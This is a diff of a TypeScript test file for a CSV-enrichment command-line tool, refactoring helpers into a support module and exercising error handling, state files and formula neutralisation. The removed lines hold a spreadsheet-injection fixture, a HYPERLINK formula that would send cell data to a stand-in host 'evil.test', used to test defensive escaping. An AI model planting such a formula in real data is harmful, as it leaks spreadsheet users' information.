@@ -2,53 +2,17 @@
  * `npm run enrich` as a user runs it: a child process on a CSV file, against the test emulator (and
  * once against its own built-in one). Exit codes, messages, the enriched CSV and the state file.
  */
-import { execFile } from 'node:child_process';
-import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join, resolve } from 'node:path';
+import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { parseCsv } from '../../scripts/lib/csv';
 import { outputRows, readOutputs } from '../../scripts/lib/sheet-outputs';
 import { sampleContacts } from '../../dev/emulator/sample';
+import { HOSTILE, HOSTILE_STATUS, runScript, tempFile } from './support/cli';
 import { contactRows, engineKit, people, SEED } from './support/engine';
 
 const SECRET = 'sk-cli-Secret-0042';
-/** Someone the API answers about with strings that would run as formulas in a spreadsheet. */
-const HOSTILE_STATUS = '=HYPERLINK("http://evil.test/?leak="&A2,"Verified")';
-const HOSTILE = {
-  first_name: 'Mallory',
-  last_name: 'Formula',
-  company_domain: 'evil-formula.test',
-  company_name: 'Evil Formula',
-  work_email: 'mallory@evil-formula.test',
-  work_email_status: HOSTILE_STATUS,
-  phone: '+33 6 12 34 56 78',
-  country_code: 'FR',
-};
 const kit = engineKit({ keys: [SECRET], data: { people: [HOSTILE] } });
-const ROOT = resolve(__dirname, '../..');
-
-interface CliResult {
-  code: number;
-  stdout: string;
-  stderr: string;
-}
-
-function cli(args: string[], timeout = 60_000): Promise<CliResult> {
-  return new Promise((done) => {
-    execFile(
-      process.execPath,
-      ['--import', 'tsx', join(ROOT, 'scripts/enrich.ts'), ...args],
-      { cwd: ROOT, timeout },
-      (error, stdout, stderr) => done({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
-    );
-  });
-}
-
-function csvFile(name: string, text: string | Buffer): string {
-  const file = join(mkdtempSync(join(tmpdir(), 'sheet-enrich-cli-')), name);
-  writeFileSync(file, text);
-  return file;
-}
+const cli = (args: string[]) => runScript('enrich.ts', args);
 
 /** The first bytes of a zip (an .xlsx is one): what "save as .csv" by mistake gives. */
 const ZIP_HEADER = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]);
@@ -58,7 +22,7 @@ const api = () => ['--api-url', kit.emulator().baseUrl, '--api-key', SECRET, '--
 describe('npm run enrich', () => {
   it('enriches a CSV, writes it beside the input, and spends nothing the second time', async () => {
     const rows = contactRows(people(25));
-    const file = csvFile('leads.csv', rows.map((row) => row.join(';')).join('\n'));
+    const file = tempFile('leads.csv', rows.map((row) => row.join(';')).join('\n'));
     const first = await cli([file, ...api()]);
     expect(first).toMatchObject({ code: 0 });
     expect(first.stdout).toMatch(/Rows: +25 \(25 contacts sent/);
@@ -101,7 +65,7 @@ describe('npm run enrich', () => {
   it("neutralises formulas in the API's answers and keeps the user's own cells exactly", async () => {
     const header = ['First name', 'Last name', 'Company', 'Note'];
     const mine = ['Mallory', 'Formula', 'Evil Formula', '=SUM(1)'];
-    const file = csvFile('hostile.csv', [header, mine].map((row) => row.join(',')).join('\n'));
+    const file = tempFile('hostile.csv', [header, mine].map((row) => row.join(',')).join('\n'));
     const out = join(file, '..', 'out.csv');
     const result = await cli([file, '--out', out, ...api()]);
     expect(result).toMatchObject({ code: 0 });
@@ -120,7 +84,7 @@ describe('npm run enrich', () => {
 
   it('runs a reverse lookup into --out with its own --state', async () => {
     const contacts = sampleContacts(SEED, 6, { withWorkEmail: true, unknownShare: 0 });
-    const file = csvFile('emails.csv', ['Email', ...contacts.map((c) => c.workEmail)].join('\n'));
+    const file = tempFile('emails.csv', ['Email', ...contacts.map((c) => c.workEmail)].join('\n'));
     const out = join(file, '..', 'out.csv');
     const state = join(file, '..', 'state.json');
     const result = await cli([file, '--reverse', '--out', out, '--state', state, ...api()]);
@@ -139,7 +103,7 @@ describe('npm run enrich', () => {
     ['a zip saved as .csv', ZIP_HEADER, /bad\.csv is not a text CSV file\.$/],
     ['binary behind a UTF-16 BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), ZIP_HEADER]), /not a text CSV/],
   ])('refuses %s with one line (no usage text) and exit code 2', async (_what, content, message) => {
-    const result = await cli([csvFile('bad.csv', content), ...api()]);
+    const result = await cli([tempFile('bad.csv', content), ...api()]);
     expect(result.code).toBe(2);
     expect(result.stderr.trim().split('\n')).toEqual([expect.stringMatching(message)]);
   });
@@ -153,7 +117,7 @@ describe('npm run enrich', () => {
   });
 
   it('says the key was refused without printing it', async () => {
-    const file = csvFile('c.csv', contactRows(people(3)).join('\n'));
+    const file = tempFile('c.csv', contactRows(people(3)).join('\n'));
     const result = await cli([file, '--api-url', kit.emulator().baseUrl, '--api-key', 'sk-wrong-9931']);
     expect(result.code).not.toBe(0);
     expect(result.stderr).toMatch(/key was refused/);
@@ -161,7 +125,7 @@ describe('npm run enrich', () => {
   });
 
   it('starts and stops its own emulator without --api-url', async () => {
-    const file = csvFile('c.csv', contactRows(sampleContacts(1, 5)).join('\n'));
+    const file = tempFile('c.csv', contactRows(sampleContacts(1, 5)).join('\n'));
     const result = await cli([file, '--poll-ms', '500']);
     expect(result.code).toBe(0);
     expect(result.stderr).toMatch(/built-in emulator/);
@@ -175,7 +139,7 @@ describe('npm run enrich', () => {
         .slice(1)
         .map((row) => row.slice(0, 3).join('\t')),
     ].join('\r\n');
-    const file = csvFile('unicode.txt', '');
+    const file = tempFile('unicode.txt', '');
     writeFileSync(file, Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]));
     const out = join(file, '..', 'out.csv');
     const result = await cli([file, '--out', out, ...api()]);
@@ -216,7 +180,7 @@ describe('npm run enrich', () => {
     ['another version', JSON.stringify({ version: 7 }), /format version 7, .* this one reads version 1/],
     ['no version', JSON.stringify({ spreadsheet: {} }), /not a sheet-enrich state file/],
   ])('refuses a state file of %s with one line and exit code 2', async (_what, content, reason) => {
-    const file = csvFile('c.csv', contactRows(people(3)).join('\n'));
+    const file = tempFile('c.csv', contactRows(people(3)).join('\n'));
     const state = join(file, '..', 'state.json');
     writeFileSync(state, content);
     const result = await cli([file, '--state', state, ...api()]);
@@ -230,7 +194,7 @@ describe('npm run enrich', () => {
   });
 
   it('names the reason when the state file cannot be read at all', async () => {
-    const file = csvFile('c.csv', contactRows(people(3)).join('\n'));
+    const file = tempFile('c.csv', contactRows(people(3)).join('\n'));
     const result = await cli([file, '--state', join(file, '..'), ...api()]);
     expect(result.code).toBe(2);
     expect(result.stderr).toMatch(/^sheet-enrich: The state file .* cannot be read \(EISDIR\): delete it/);
